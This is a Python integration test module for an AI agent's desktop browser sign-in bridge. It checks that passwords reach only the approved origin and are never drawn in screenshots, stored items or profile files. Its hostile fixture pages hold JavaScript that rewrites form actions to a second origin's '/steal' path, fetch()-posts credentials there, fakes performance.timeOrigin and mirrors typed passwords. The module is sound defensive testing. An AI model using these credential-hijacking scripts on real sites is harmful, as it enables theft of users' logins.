"""A sign-in's values go only where the client approved them, and stay out of every picture: through the openai
SDK's ``client.beta.agents``, the real sandbox's desktop (Xvfb, Chromium, its egress proxy), the fake model scripted
call by call, and two loopback origins the session allowed — ``A``, the sign-in's (``credential_origin``), and
``B``, another — whose servers keep every request.

Each hostile page beside its control (the plain form, and a form-less page that posts on Enter: the password
reaches ``A`` only):

- a form whose ``action`` is rewritten to ``B`` after the sign-in was asked, one whose ``submit`` handler rewrites
  it as the bridge submits, and one whose ``submit`` handler posts the values to ``B`` itself: no server gets the
  password; the client sees the submission as a ``failed``
  ``computer_use_call`` item saying why, the model is told it was refused;
- a page that moves to ``B`` after the ask, where a form fakes ``performance.timeOrigin`` (what the old "same
  document" check read in the page): nothing filled there, no server gets the password, both told;
- a page that mirrors the typed values into red text (its own and a same-origin frame's), an attribute and its
  title, and posts them by script (it stays), then its server's page that echoes them: the submitted password is
  drawn in no screenshot the model was sent, no stored item, no watch frame (the red text is eight discs wide, not
  the password's seventeen characters — the control: seventeen characters the model typed there are drawn full
  width), and no file of the browser's profile holds it (nor any address visited);
- a page that puts the typed value in its address (no DOM holds it, the address bar shows it): after the submission
  the screenshot is not sent — a grey image, the model told why — until the browser left the origin.

One session (and desktop) per test: a desktop is heavy."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import io
import os
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import aiohttp
import openai
import orjson
import pytest
from PIL import Image

from tests.integration.test_agents_api import BETA, MODEL
from tests.integration.test_agents_desktop import (
    CANNOT,
    TOOLS,
    Session,
    _browsers,
    _client,
    calls_of,
    computer,
    images_in,
)
from tests.integration.test_agents_desktop_approvals import (
    RESULT,
    asked,
    desktop_sidecar,
    navigate,
    told_model,
    until_asked,
)
from tests.integration.test_desktop import until
from tests.integration.test_desktop_gate import read_request
from tests.support.bridge import Sidecar, UpstreamLog

pytestmark = [pytest.mark.skipif(CANNOT is not None and not os.environ.get("CI"), reason=f"no desktop here: {CANNOT}"),
              pytest.mark.store_proven("tests/integration/test_agents_desktop_approvals.py",
                                       reason="a desktop session's sign-in is stored as there; this module's subject "
                                              "is the desktop's browser")]

TENANT = {"x-tenant-id": "alpha"}
ENVIRONMENT = {"type": "openai_hosted", "container_size": "small", "desktop": {"enabled": True},
               "network": {"access": "restricted", "allowed_domains": ["127.0.0.1"]}}
USERNAME = "carol@example.test"
PASSWORD = "pw-Zq8-never-seen"
"""Seventeen characters: drawn in the mirror's red monospace text they are twice as wide as eight discs."""
FORM = """<form id="f" action="/login" method="post" style="margin:0">
<label for="u">Email</label><input id="u" name="username" type="email" required style="font-size:30px">
<label for="p">Password</label><input id="p" name="password" type="password" required style="font-size:30px">
<button>Sign in</button></form>"""
MIRROR_STYLE = "font:bold 40px 'DejaVu Sans Mono',monospace;color:#f00;height:60px;white-space:pre"


def page(body: str, script: str = "") -> str:
    return (f"<!doctype html><html><head><title>page</title></head><body style='margin:0;background:#fff'>"
            f"{body}<script>{script}</script></body></html>")


@dataclass
class Site:
    """A loopback origin keeping every request; ``pages`` by path; ``/go`` answered once ``go`` is set (a page
    waits for it to act)."""

    pages: dict[str, str]
    port: int = 0
    requests: list[tuple[str, str, bytes]] = field(default_factory=list)
    go: asyncio.Event = field(default_factory=asyncio.Event)
    posted: str = ""

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                method, target, head, body = await read_request(reader)
                path = "/" + target.split("://", 1)[-1].split("/", 1)[-1]
                self.requests.append((method, path, head + body))
                route = path.split("?", 1)[0]
                if route == "/go":  # answered once the test says so: the page waits for it
                    await asyncio.wait_for(self.go.wait(), 120)
                    data, kind = b"now", b"text/plain"
                elif method == "POST" or route == "/welcome":  # a page that shows what was posted (last)
                    if method == "POST":
                        self.posted = parse_qs(body.decode()).get("password", [""])[0]
                    shown = self.posted
                    data = page(f"<h1>welcome</h1><div id='out' style=\"{MIRROR_STYLE}\">{shown}</div>").encode()
                    kind = b"text/html"
                else:
                    data, kind = self.pages.get(route, page("<h1>home</h1>")).encode(), b"text/html"
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nCache-Control: no-store\r\n"
                             b"Content-Length: %d\r\n\r\n%s" % (kind, len(data), data))
                await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError, TimeoutError, ValueError):
            pass
        finally:
            writer.close()

    def saw(self, secret: str) -> bool:
        encoded = secret.replace("@", "%40").encode()
        return any(secret.encode() in raw or encoded in raw for _, _, raw in self.requests)

    def posts(self) -> list[str]:
        return [path for method, path, _ in self.requests if method == "POST"]


def sites() -> tuple[Site, Site]:
    a, b = Site({}), Site({})
    b.pages["/fake"] = page(FORM, """const t = Number(new URLSearchParams(location.search).get('t'));
        Object.defineProperty(performance, 'timeOrigin', {get: () => t});""")
    return a, b


def hostile_pages(a: Site, b: Site) -> None:
    a.pages.update({
        "/login": page(FORM),
        # no form: Enter in the password field posts by script (the bridge presses Enter there)
        "/formless": page(FORM.replace('<form id="f" action="/login" method="post" style="margin:0">', "<div>")
                          .replace("</form>", "</div>"), """
            document.getElementById('p').addEventListener('keydown', event => {
              if (event.key === 'Enter') fetch('/login', {method: 'POST', body: new URLSearchParams({
                username: document.getElementById('u').value, password: event.target.value})}); });"""),
        # the action rewritten once the sign-in was asked (the server says when: the page cannot see the ask)
        "/rewrite": page(FORM, f"""fetch('/go').then(() => {{
            document.getElementById('f').action = '{b.origin}/steal'; document.title = 'rewritten'; }});"""),
        # the action rewritten as the form is submitted (after the bridge's last look at it)
        "/rewrite-on-submit": page(FORM, f"""document.getElementById('f').addEventListener('submit',
            event => {{ event.target.setAttribute('action', '{b.origin}/steal'); }});"""),
        # the form posted by the page's script, to B
        "/post-elsewhere": page(FORM, f"""document.getElementById('f').addEventListener('submit', event => {{
            event.preventDefault();
            fetch('{b.origin}/steal', {{method: 'POST', mode: 'no-cors', body: new URLSearchParams(
              new FormData(event.target))}}); }});"""),
        # the page moves to B once the sign-in was asked, its timeOrigin handed on for B's form to fake
        "/move": page(FORM, f"""fetch('/go').then(() => {{
            location = '{b.origin}/fake?t=' + performance.timeOrigin; }});"""),
        # the value put in the page's address as it is typed, the form posted by a script: no DOM holds it
        "/address": page(FORM, """document.addEventListener('input', event =>
              history.replaceState(null, '', '/address?typed=' + encodeURIComponent(event.target.value)));
            document.getElementById('f').addEventListener('submit', event => {
              event.preventDefault(); fetch('/login', {method: 'POST', body: new URLSearchParams(new FormData(
                event.target))}); });"""),
        # every value typed mirrored into red text, an attribute and the title
        "/mirror": page(FORM.replace('type="email"', 'type="email" autofocus')
                        + f"<div id='out' style=\"{MIRROR_STYLE}\"></div>"
                        + "<iframe id='frame' style='border:0;width:100vw;height:80px'></iframe>", f"""
            const out = document.getElementById('out');
            const frame = document.getElementById('frame').contentDocument;  // same origin: about:blank
            frame.body.innerHTML = "<div id='out' style=\\"{MIRROR_STYLE}\\"></div>";
            document.addEventListener('input', event => {{
              out.textContent = event.target.value; out.setAttribute('data-value', event.target.value);
              frame.getElementById('out').textContent = event.target.value;
              document.title = event.target.value; }});
            document.getElementById('f').addEventListener('submit', event => {{  // posted by script: it stays
              event.preventDefault();
              fetch('/login', {{method: 'POST', body: new URLSearchParams(new FormData(event.target))}}); }});"""),
    })


@pytest.fixture(scope="module")
async def servers() -> AsyncIterator[tuple[Site, Site]]:
    a, b = sites()
    hostile_pages(a, b)
    listeners = []
    for site in (a, b):
        listener = await asyncio.start_server(site.serve, "127.0.0.1", 0)
        site.port = listener.sockets[0].getsockname()[1]
        listeners.append(listener)
    hostile_pages(a, b)  # with the ports known
    yield a, b
    for listener in listeners:
        listener.close()


@pytest.fixture(scope="module")
async def sidecar(fake_upstream: str, tmp_path_factory: pytest.TempPathFactory,
                  servers: tuple[Site, Site]) -> AsyncIterator[tuple[Sidecar, Path]]:
    directory = tmp_path_factory.mktemp("agents-desktop-sign-in")
    async with desktop_sidecar(fake_upstream, directory, (site.port for site in servers)) as started:
        yield started, directory


async def approve_all(session: Session, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Every origin the session asks for approved, until it asks for a sign-in or is idle: the events."""
    for _ in range(6):
        if events[-1]["type"] != "agent.session.requires_action":
            return events
        origins = [one for one in asked(events) if one["request"]["type"] == "browser_origin_access"]
        if not origins:
            return events
        await session.send(*({"type": RESULT, "request_id": one["request_id"],
                              "response": {"type": "browser_origin_access", "decision": "approve"}}
                             for one in origins))
        events = await session.until_quiet()
    return events


async def sign_in_asked(session: Session, url: str) -> dict[str, Any]:
    """The model goes to ``url``; the sign-in request the session asks for there (origins approved on the way)."""
    return await sign_in_asked_here(session, await approve_all(session, await navigate(session, url, asks=False)))


async def sign_in_asked_here(session: Session, events: list[dict[str, Any]]) -> dict[str, Any]:
    """The sign-in request the session asks for on the page it shows (the model waits until it does)."""
    for _ in range(3):
        forms = [one for one in asked(events) if one["request"]["type"] == "browser_authentication"] \
            if events[-1]["type"] == "agent.session.requires_action" else []
        if forms:
            return forms[0]
        events = await approve_all(session, await until_asked(session, await session.turn(computer({"type": "wait"}))))
    raise AssertionError(f"no sign-in asked: {[event['type'] for event in events]} {calls_of(events)[-1:]}")


async def told_to_go(site: Site) -> None:
    """``site``'s page told to go on (the answer to its ``/go``, which it waited for)."""
    assert await until(lambda: "/go" in [path for _, path, _ in site.requests]), site.requests
    site.go.set()
    await asyncio.sleep(1.0)


async def submit(session: Session, request: dict[str, Any]) -> list[dict[str, Any]]:
    await session.send({"type": RESULT, "request_id": request["request_id"], "response": {
        "type": "browser_authentication", "action": "submit",
        "fields": [{"field_id": "username", "value": USERNAME}, {"field_id": "password", "value": PASSWORD}]}})
    return await approve_all(session, await session.until_quiet())


def submissions(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The ``computer_use_call`` items of the bridge's sign-in submissions, done."""
    return [event["item"] for event in events if event["type"] == "agent.session.turn.item.done"
            and event["item"]["type"] == "computer_use_call" and event["item"]["title"].startswith("sign-in ")]


def spread(jpeg: bytes) -> int:
    """The widest range of one colour channel over the image (a plain grey image: a few, from the JPEG)."""
    extrema: Any = Image.open(io.BytesIO(jpeg)).convert("RGB").getextrema()
    return max(high - low for low, high in extrema)


def last_said(body: dict[str, Any]) -> str:
    """The last text the bridge told the model (the user message after a call's screenshot)."""
    return [message["content"] for message in body["messages"]
            if message["role"] == "user" and isinstance(message["content"], str)][-1]


def red_width(jpeg: bytes) -> int:
    """How many columns of the screen hold the mirror's red (its text's width in pixels)."""
    image = Image.open(io.BytesIO(jpeg)).convert("RGB")
    pixels = image.load()
    assert pixels is not None
    columns = set()
    for y in range(0, image.height, 2):
        for x in range(image.width):
            red, green, blue = pixels[x, y]  # type: ignore[misc]
            if red > 180 and green < 90 and blue < 90:
                columns.add(x)
    return len(columns)


def jpeg_of(url: str) -> bytes:
    assert url.startswith("data:image/jpeg;base64,"), url[:40]
    return base64.b64decode(url.split(",", 1)[1])


async def watch_frame(link: str) -> bytes:
    """The first frame of the session's live view (its page's frame stream)."""
    async with aiohttp.ClientSession() as http:
        async with http.get(link) as answer:
            assert answer.status == 200, await answer.text()
            frames_at = (await answer.text()).split('src="', 1)[1].split('"', 1)[0].replace("&amp;", "&")
        async with http.get(link.split("live?", 1)[0] + frames_at) as answer:
            assert answer.status == 200
            seen = b""
            while b"\xff\xd9" not in seen.partition(b"\r\n\r\n")[2]:
                piece = await asyncio.wait_for(answer.content.readany(), 30)
                assert piece, seen[:200]
                seen += piece
    rest = seen.partition(b"\r\n\r\n")[2]
    return rest[:rest.index(b"\xff\xd9") + 2]


def profile_files(sidecar: Sidecar) -> dict[str, bytes]:
    """Every file of the desktop's browser profile (the call's in-memory ``/tmp/browser``, read through the
    browser's process)."""
    [browser, *_] = _browsers(sidecar)
    base = Path(f"/proc/{browser}/root/tmp/browser")
    found = {}
    for path in base.rglob("*"):
        if path.is_file():
            try:
                found[str(path.relative_to(base))] = path.read_bytes()
            except OSError:
                continue
    return found


@contextlib.asynccontextmanager
async def signing_session(started: Sidecar) -> AsyncIterator[
        tuple[openai.AsyncOpenAI, str, aiohttp.ClientSession, Session]]:
    """Tenant alpha's client, a session of a new agent with its desktop (the session's id), plain HTTP to the
    sidecar and the session driven over it: each test's own (a desktop is heavy). The session is deleted on the way
    out, whatever failed: its desktop stopped, the next test's session needs one."""
    alpha = _client(started, "alpha")
    agent = await alpha.beta.agents.create(model=MODEL, tools=TOOLS)
    made = await alpha.beta.agents.sessions.create(agent_id=agent.id, environment=ENVIRONMENT)
    try:
        async with aiohttp.ClientSession(started.http_url, headers={**BETA, **TENANT}) as http:
            yield alpha, made.id, http, Session(http, made.id, approve_origins=False)
    finally:
        with contextlib.suppress(openai.APIError):
            await alpha.beta.agents.sessions.delete(made.id)
        await alpha.close()


async def test_a_password_reaches_its_own_origin_only_and_no_picture(sidecar: tuple[Sidecar, Path],
                                                                    servers: tuple[Site, Site]) -> None:
    started, _ = sidecar
    a, b = servers
    upstream = UpstreamLog(started.upstream_url.removesuffix("/v1"))
    async with signing_session(started) as (alpha, made_id, http, session):
        await approve_all(session, await navigate(session, f"{b.origin}/", asks=False))  # B: allowed too
        assert await until(lambda: "/" in [path for _, path, _ in b.requests])

        # the control without a form: the bridge presses Enter in its last field; the page posts to A
        a.requests.clear()
        events = await submit(session, await sign_in_asked(session, f"{a.origin}/formless"))
        assert await until(lambda: "/login" in a.posts())
        assert a.saw(PASSWORD) and not b.saw(PASSWORD)
        assert [item["status"] for item in submissions(events)] == ["completed"]

        # the action rewritten to B after the ask; rewritten as it is submitted; the values posted to B by the
        # page's script: refused, nothing sent
        for path in ("/rewrite", "/rewrite-on-submit", "/post-elsewhere"):
            a.requests.clear()
            a.go.clear()
            request = await sign_in_asked(session, f"{a.origin}{path}")
            assert request["request"]["credential_origin"] == a.origin
            if path == "/rewrite":
                await told_to_go(a)
            events = await submit(session, request)
            await asyncio.sleep(1.0)
            assert not a.saw(PASSWORD) and not b.saw(PASSWORD), (path, a.posts(), b.posts())
            assert not b.posts(), b.posts()
            [item] = submissions(events)
            assert item["status"] == "failed", item
            assert (f"the form posts to {b.origin}" if path == "/rewrite" else  # before any value was filled
                    f"the page sent the submission to another origin than {a.origin}") in item["title"], item
            said = told_model(await upstream.last_body())
            assert "refused to submit" in said and PASSWORD not in said, said

        # the page moved to B after the ask, B's form faking performance.timeOrigin: nothing filled there
        a.go.clear()
        request = await sign_in_asked(session, f"{a.origin}/move")
        b.requests.clear()
        await told_to_go(a)
        assert await until(lambda: any(path.startswith("/fake") for _, path, _ in b.requests))
        await asyncio.sleep(1.0)  # B's page loaded
        events = await submit(session, request)
        await asyncio.sleep(1.0)
        assert not a.saw(PASSWORD) and not b.saw(PASSWORD) and not b.posts()
        [item] = submissions(events)
        assert item["status"] == "failed" and f"now stands at {b.origin}" in item["title"], item
        # B's own form is asked of the client as B's (its credential_origin: where its values would go)
        [again] = [one for one in asked(events) if one["request"]["type"] == "browser_authentication"]
        assert again["request"]["credential_origin"] == b.origin
        await session.send({"type": RESULT, "request_id": again["request_id"],
                            "response": {"type": "browser_authentication", "action": "cancel"}})
        await session.until_quiet()
        said = told_model(await upstream.last_body())
        assert "refused to submit" in said and f"now stands at {b.origin}" in said, said

        # the mirroring page. The control first: seventeen characters the model types are drawn full width
        a.go.clear()
        request = await sign_in_asked(session, f"{a.origin}/mirror")
        await session.send({"type": RESULT, "request_id": request["request_id"],
                            "response": {"type": "browser_authentication", "action": "cancel"}})
        await session.until_quiet()
        await session.turn(computer({"type": "type", "text": "m" * len(PASSWORD)}))  # its field has the focus
        shown = [red_width(jpeg_of(image)) for image in images_in(await upstream.last_body())]
        # the screen settles when it has not changed for 0.1 s: in a full run's load the browser once drew the
        # keys after that (every image without red); a later screenshot shows what was typed, bounded
        for _ in range(10):
            if shown and shown[-1] > 300:
                break
            await session.turn(computer({"type": "screenshot"}))
            shown = [red_width(jpeg_of(image)) for image in images_in(await upstream.last_body())]
        assert shown and shown[-1] > 300, shown
        events = await approve_all(session, await session.turn(computer({"type": "keypress", "keys": ["F5"]})))
        request = await sign_in_asked_here(session, events)  # reloaded: a fresh form, asked again
        await upstream.clear()
        events = await submit(session, request)
        assert await until(lambda: "/login" in a.posts())
        events += await session.turn(computer({"type": "screenshot"}))
        # a new document of the origin that shows the password (its server's echo of the last post)
        events += await navigate(session, f"{a.origin}/welcome", asks=False)
        assert await until(lambda: "/welcome" in [path for _, path, _ in a.requests])
        events += await session.turn(computer({"type": "wait"}))
        # each request's newest image: the screen after the call it answers (older ones predate the sign-in)
        sent = [jpeg_of(images_in(entry["body"])[-1]) for entry in await upstream.entries()
                if images_in(entry["body"])]
        assert len(sent) >= 2
        for jpeg in sent:  # the mirrors drawn, as eight discs
            assert 100 < red_width(jpeg) < 250, red_width(jpeg)
        stored = [jpeg_of(item.output.image_url)
                  async for item in alpha.beta.agents.sessions.items.list(made_id, order="asc")
                  if item.type == "computer_use_call" and item.output is not None]
        assert stored
        assert 100 < red_width(stored[-1]) < 250
        link = (await alpha.beta.agents.sessions.retrieve(made_id)).model_extra["desktop_live_url"]
        assert 100 < red_width(await watch_frame(link)) < 250
        files = profile_files(started)
        assert "Default/Preferences" in files, sorted(files)
        for name, data in files.items():
            # nothing of the browsing either: no address visited (history, top sites, sessions, cookies)
            assert f"127.0.0.1:{a.port}".encode() not in data, name
            for secret in (PASSWORD, USERNAME, USERNAME.replace("@", "%40")):
                assert secret.encode() not in data and secret.encode("utf-16-le") not in data, (name, secret)
        whole = orjson.dumps(await Session(http, made_id, approve_origins=False).read())
        assert PASSWORD.encode() not in whole


async def test_a_screen_that_would_show_the_password_is_not_sent(sidecar: tuple[Sidecar, Path],
                                                                 servers: tuple[Site, Site]) -> None:
    """A page that puts the typed value in its address (the address bar would show it; no DOM holds it): after
    the submission, the screenshot is withheld — a grey image, the model told why — until the browser left the
    origin; then screenshots are taken again. The control: before the sign-in, the address shows what is typed."""
    started, _ = sidecar
    a, b = servers
    upstream = UpstreamLog(started.upstream_url.removesuffix("/v1"))
    async with signing_session(started) as (_, _, _, session):
        a.requests.clear()
        request = await sign_in_asked(session, f"{a.origin}/address")
        await upstream.clear()
        events = await submit(session, request)
        assert await until(lambda: "/login" in a.posts())
        assert a.saw(PASSWORD) and not b.saw(PASSWORD)
        [item] = submissions(events)
        assert item["status"] == "completed", item
        said = told_model(await upstream.last_body())
        assert "The screenshot was not taken: the page's address holds a value of the sign-in" in said, said
        assert PASSWORD not in said
        assert spread(jpeg_of(images_in(await upstream.last_body())[-1])) < 8  # a plain grey image
        assert red_width(jpeg_of(item["output"]["image_url"])) == 0
        # still at the origin: still withheld; once the browser left it, the screen is shown again
        await session.turn(computer({"type": "screenshot"}))
        assert "was not taken" in last_said(await upstream.last_body())
        events = await approve_all(session, await navigate(session, f"{b.origin}/", asks=False))
        assert await until(lambda: "/" in [path for _, path, _ in b.requests])
        events = await session.turn(computer({"type": "wait"}))
        said = last_said(await upstream.last_body())
        assert "was not taken" not in said, said  # nothing told after the call: its screenshot is the screen
        assert spread(jpeg_of(images_in(await upstream.last_body())[-1])) > 100  # a page, not a grey image
